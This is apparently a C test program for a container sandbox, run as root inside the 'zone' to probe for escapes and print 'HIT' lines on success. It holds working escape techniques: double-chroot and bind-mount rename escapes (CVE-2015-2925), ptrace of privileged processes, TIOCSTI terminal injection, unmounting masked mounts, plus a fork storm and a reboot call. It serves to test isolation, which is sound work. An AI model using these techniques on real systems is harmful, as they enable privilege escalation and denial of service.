/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * The attacker: one static program that is put into a zone and run there as its
 * root. Each word tries one known way out and says what it got: the lines that
 * begin with "HIT" are what must not be. Nothing is ever written to a file of the
 * host: what could be written is opened and closed again.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/reboot.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* swap DIR A B SECONDS: exchanges two names as fast as it can; SECONDS 0 is until killed by TERM.
 */
static volatile sig_atomic_t is_over;

static void end(int sig)
{
	(void)sig;
	is_over = 1;
}

static int do_swap(char **argv)
{
	double start = now(), seconds = atof(argv[3]);
	int dirfd = open(argv[0], O_PATH | O_DIRECTORY);
	unsigned long n = 0, failed = 0;

	signal(SIGTERM, end);
	while (!is_over && (seconds == 0 || now() - start < seconds))
		for (int i = 0; i < 64; i++) {
			if (syscall(SYS_renameat2, dirfd, argv[1], dirfd, argv[2],
				    RENAME_EXCHANGE) < 0)
				failed++;
			else
				n++;
		}
	printf("swaps %lu failed %lu per second %.0f\n", n, failed, (double)n / (now() - start));
	return 0;
}

/* exe DEV:INO SECONDS: looks for that program behind every /proc/PID/exe and mapping. */
struct prey {
	unsigned long long dev, ino;
	unsigned long seen, written, tries;
};

static void try_exe(struct prey *p, const char *path, int flags)
{
	int fd = open(path, flags);
	struct stat st;

	p->tries++;
	if (fd < 0)
		return;
	if (fstat(fd, &st) == 0 && st.st_dev == p->dev && st.st_ino == p->ino) {
		p->seen++;
		if ((flags & O_ACCMODE) != O_RDONLY)
			p->written++;
	}
	close(fd);
}

static int do_exe(char **argv)
{
	struct prey p = { 0 };
	double start = now();

	if (sscanf(argv[0], "%llu:%llu", &p.dev, &p.ino) != 2)
		return 2;
	signal(SIGTERM, end);
	while (!is_over && now() - start < atof(argv[1])) {
		DIR *dir = opendir("/proc");
		struct dirent *e;

		while (dir && (e = readdir(dir))) {
			char path[64];

			if (e->d_name[0] < '1' || e->d_name[0] > '9' || atoi(e->d_name) == getpid())
				continue;
			snprintf(path, sizeof(path), "/proc/%.16s/exe", e->d_name);
			try_exe(&p, path, O_RDWR);
			try_exe(&p, path, O_RDONLY);
		}
		closedir(dir);
	}
	printf("tries %lu\n", p.tries);
	if (p.seen)
		printf("HIT saw the host's program %lu times, %lu of them writable\n", p.seen,
		       p.written);
	return 0;
}

/* trace DEV:INO SECONDS: whoever is seen here and has a capability that this process can't have, or
 * that program, or a directory open, although it can be traced. */
struct watch {
	unsigned long long dev, ino, own;
	unsigned long looks;
};

static unsigned long long caps_of(int pid, const char *key)
{
	char path[64], line[256];
	unsigned long long caps = 0;
	FILE *file;

	snprintf(path, sizeof(path), "/proc/%d/status", pid);
	file = fopen(path, "re");
	while (file && fgets(line, sizeof(line), file))
		if (strncmp(line, key, strlen(key)) == 0)
			caps = strtoull(line + strlen(key) + 1, NULL, 16);
	if (file)
		fclose(file);
	return caps;
}

static void look_at_fds(int pid)
{
	char path[64];
	DIR *dir;
	struct dirent *e;

	snprintf(path, sizeof(path), "/proc/%d/fd", pid);
	dir = opendir(path);
	while (dir && (e = readdir(dir))) {
		struct stat st;

		if (e->d_name[0] != '.' && fstatat(dirfd(dir), e->d_name, &st, 0) == 0 &&
		    S_ISDIR(st.st_mode))
			printf("HIT descriptor %s of %d is a directory\n", e->d_name, pid);
	}
	if (dir)
		closedir(dir);
}

static void look_at(struct watch *w, int pid)
{
	char path[64];
	struct stat st;
	unsigned long long caps;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	if (stat(path, &st) == 0 && st.st_dev == w->dev && st.st_ino == w->ino)
		printf("HIT %d is the host's program\n", pid);
	look_at_fds(pid);
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
		return;
	w->looks++;
	caps = caps_of(pid, "CapPrm") & ~w->own;
	if (caps)
		printf("HIT traced %d, which has capabilities %llx\n", pid, caps);
	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0 && waitpid(pid, NULL, __WALL) == pid)
		ptrace(PTRACE_DETACH, pid, 0, 0);
}

static int do_trace(char **argv)
{
	struct watch w = { .own = caps_of(getpid(), "CapBnd") };
	double start = now();

	if (sscanf(argv[0], "%llu:%llu", &w.dev, &w.ino) != 2)
		return 2;
	signal(SIGTERM, end);
	while (!is_over && now() - start < atof(argv[1])) {
		DIR *dir = opendir("/proc");
		struct dirent *e;

		while (dir && (e = readdir(dir)))
			if (atoi(e->d_name) > 1 && atoi(e->d_name) != getpid())
				look_at(&w, atoi(e->d_name));
		closedir(dir);
	}
	printf("tries %lu\n", w.looks);
	return 0;
}

/* fds: every descriptor but 0, 1, 2, and any that is a directory. */
static int do_fds(char **argv)
{
	(void)argv;
	for (int fd = 0; fd < 4096; fd++) {
		struct stat st;

		if (fstat(fd, &st) < 0)
			continue;
		if (fd > 2)
			printf("HIT descriptor %d is open\n", fd);
		if (S_ISDIR(st.st_mode))
			printf("HIT descriptor %d is a directory\n", fd);
	}
	printf("done\n");
	return 0;
}

/* Goes up from where it stands; what is reached must be the root. */
static int is_above(void)
{
	struct stat root, here;

	for (int i = 0; i < 256; i++)
		if (chdir("..") < 0)
			return 0;
	return stat("/", &root) == 0 && stat(".", &here) == 0 &&
	       (root.st_dev != here.st_dev || root.st_ino != here.st_ino);
}

static void look_around(const char *how, const char *canary)
{
	struct stat st;

	if (is_above())
		printf("HIT %s: above the root\n", how);
	if (stat(canary + 1, &st) == 0)
		printf("HIT %s: the host's '%s' is seen\n", how, canary);
}

/* cwd CANARY: the working directory it was given. */
static int do_cwd(char **argv)
{
	char path[4096];

	if (syscall(SYS_getcwd, path, sizeof(path)) > 0 && path[0] != '/')
		printf("HIT the working directory is '%s'\n", path);
	look_around("cwd", argv[0]);
	printf("done\n");
	return 0;
}

/* escape CANARY: chroot twice; a bind whose root is moved away (CVE-2015-2925). */
static int escape_chroot(const char *canary)
{
	int fd = open("/", O_RDONLY | O_DIRECTORY);

	if (fork() == 0) {
		mkdir("/tmp/jail", 0755);
		if (chroot("/tmp/jail") == 0 && fchdir(fd) == 0) {
			for (int i = 0; i < 256 && chdir("..") == 0; i++)
				;
			if (chroot(".") == 0)
				look_around("chroot twice", canary);
		} else {
			printf("chroot: %s\n", strerror(errno));
		}
		fflush(stdout);
		_exit(0);
	}
	wait(NULL);
	return close(fd);
}

static void escape_bind(const char *canary)
{
	mkdir("/tmp/e1", 0755);
	mkdir("/tmp/e1/x", 0755);
	mkdir("/tmp/e1/x/y", 0755);
	mkdir("/tmp/e2", 0755);
	if (mount("/tmp/e1/x", "/tmp/e2", NULL, MS_BIND, NULL) < 0) {
		printf("bind: %s\n", strerror(errno));
		return;
	}
	if (chdir("/tmp/e2/y") < 0 || rename("/tmp/e1/x/y", "/tmp/e1/y") < 0)
		printf("rename: %s\n", strerror(errno));
	for (int i = 0; i < 256 && chdir("..") == 0; i++)
		;
	/* Above the bind's own root is within the zone; the host's files must not be. */
	if (access(canary + 1, F_OK) == 0)
		printf("HIT bind and rename: the host's '%s' is seen\n", canary);
	umount2("/tmp/e2", MNT_DETACH);
}

static int do_escape(char **argv)
{
	escape_chroot(argv[0]);
	escape_bind(argv[0]);
	printf("done\n");
	return 0;
}

/* unmask [BELOW]: takes off, and loosens the flags of, every mount that it was given. */
static void unmask(const char *path, unsigned long *n)
{
	struct stat before, after;

	(*n)++;
	if (mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL) == 0)
		printf("HIT remount '%s' took every flag off\n", path);
	else if (errno != EPERM && errno != EINVAL && errno != EACCES && errno != ENOENT)
		printf("HIT remount '%s': %s\n", path, strerror(errno));
	/* The console is bound by the zone's own first process over an empty file of its own /dev.
	 */
	if (strcmp(path, "/dev/console") == 0 || lstat(path, &before) < 0)
		return;
	(*n)++;
	if (umount2(path, UMOUNT_NOFOLLOW | MNT_DETACH) == 0)
		printf("HIT umount '%s'%s\n", path, lstat(path, &after) == 0 &&
		       after.st_ino != before.st_ino ? ", and what it hid is seen" : "");
	else if (errno != EPERM && errno != EINVAL && errno != ENOENT)
		printf("HIT umount '%s': %s\n", path, strerror(errno));
}

static int do_unmask(char **argv)
{
	FILE *f = fopen("/proc/self/mountinfo", "r");
	const char *below = argv[0] ? argv[0] : "/";
	char *paths[512], line[4096];
	unsigned long n = 0;
	size_t count = 0;

	while (f && count < 512 && fgets(line, sizeof(line), f)) {
		char path[2048];

		if (sscanf(line, "%*d %*d %*s %*s %2047s", path) == 1 &&
		    strncmp(path, below, strlen(below)) == 0 && strcmp(path, "/") != 0)
			paths[count++] = strdup(path);
	}
	while (count > 0)
		unmask(paths[--count], &n);
	printf("tries %lu\n", n);
	return 0;
}

/* knobs FILE...: what opens for writing. Never written to. */
static int do_knobs(char **argv)
{
	unsigned long n = 0;

	for (; *argv; argv++, n++) {
		int fd = open(*argv, O_WRONLY | O_NONBLOCK | O_NOCTTY);

		if (fd < 0)
			continue;
		printf("HIT '%s' opens for writing\n", *argv);
		close(fd);
	}
	printf("tries %lu\n", n);
	return 0;
}

/* tiocsti: types into every terminal at hand, also with bits that a 64-bit comparison sees. */
static int do_tiocsti(char **argv)
{
	static const char *const paths[] = { "/dev/tty", "/dev/console", "/proc/self/fd/0",
					     "/proc/self/fd/2", NULL };
	static const unsigned long high[] = { 0, 1UL << 32, 1UL << 63, 0xffffffffUL << 32 };
	char what = '#';
	int n = 0;

	(void)argv;
	for (const char *const *p = paths; *p; p++)
		(void)!open(*p, O_RDWR | O_NOCTTY);
	for (int fd = 0; fd < 16; fd++)
		for (size_t i = 0; i < 4; i++) {
			if (fcntl(fd, F_GETFD) < 0)
				continue;
			n++;
			if (syscall(SYS_ioctl, fd, 0x5412UL | high[i], &what) == 0)
				printf("HIT TIOCSTI on descriptor %d, command %#lx\n", fd,
				       0x5412UL | high[i]);
			else if (errno != EPERM)
				printf("HIT TIOCSTI on descriptor %d reached the kernel: %s\n", fd,
				       strerror(errno));
			what = 6;	/* TIOCL_GETSHIFTSTATE, which asks and changes nothing */
			if (syscall(SYS_ioctl, fd, 0x541cUL | high[i], &what) == 0 ||
			    errno != EPERM)
				printf("HIT TIOCLINUX on descriptor %d\n", fd);
			what = '#';
		}
	printf("tries %d\n", n);
	return 0;
}

/* storm N: processes that ignore everything, in sessions of their own, and are forked without end.
 */
static int do_storm(char **argv)
{
	int width = atoi(argv[0]);

	for (int sig = 1; sig < NSIG; sig++)
		signal(sig, SIG_IGN);
	/* Those who exit are reaped at once, as SIGCHLD is ignored here: the storm is in how fast
	 * pids go by, and must not fill the process table of the host that the control runs on. */
	prctl(PR_SET_CHILD_SUBREAPER, 1);
	for (int i = 0; i < width; i++)
		if (fork() == 0) {
			setsid();
			for (;;) {
				pid_t pid = fork();

				if (pid > 0)
					_exit(0); /* a new pid each time, so none can be aimed at */
				if (pid < 0)
					sched_yield();
			}
		}
	printf("up\n");
	fflush(stdout);
	for (;;)
		pause();
}

static int do_reboot(char **argv)
{
	(void)argv;
	return reboot(RB_AUTOBOOT);
}

/* deep N: a tree of N directories, one in the other. */
static int do_deep(char **argv)
{
	for (long n = atol(argv[1]), i = 0; i < n; i++)
		if ((i == 0 && chdir(argv[0]) < 0) || mkdir("d", 0755) < 0 || chdir("d") < 0)
			return 1;
	return 0;
}

/* named NAME SECONDS: a process that calls itself so, in comm and in its arguments. */
static int do_named(char **argv)
{
	unsigned int seconds = (unsigned int)atoi(argv[1]);

	prctl(PR_SET_NAME, argv[0]);
	printf("up\n");
	fflush(stdout);
	sleep(seconds);
	return 0;
}

static const struct word {
	const char *name;
	int n_args;
	int (*run)(char **argv);
} words[] = {
	{ "swap", 4, do_swap },     { "exe", 2, do_exe },       { "fds", 0, do_fds },
	{ "cwd", 1, do_cwd },       { "escape", 1, do_escape }, { "unmask", 0, do_unmask },
	{ "knobs", 1, do_knobs },   { "tiocsti", 0, do_tiocsti }, { "storm", 1, do_storm },
	{ "trace", 2, do_trace },
	{ "reboot", 0, do_reboot }, { "deep", 2, do_deep },     { "named", 2, do_named },
};

int main(int argc, char **argv)
{
	for (size_t i = 0; argc > 1 && i < sizeof(words) / sizeof(*words); i++)
		if (strcmp(argv[1], words[i].name) == 0 && argc - 2 >= words[i].n_args)
			return words[i].run(argv + 2);
	fprintf(stderr, "inside: no such word\n");
	return 2;
}
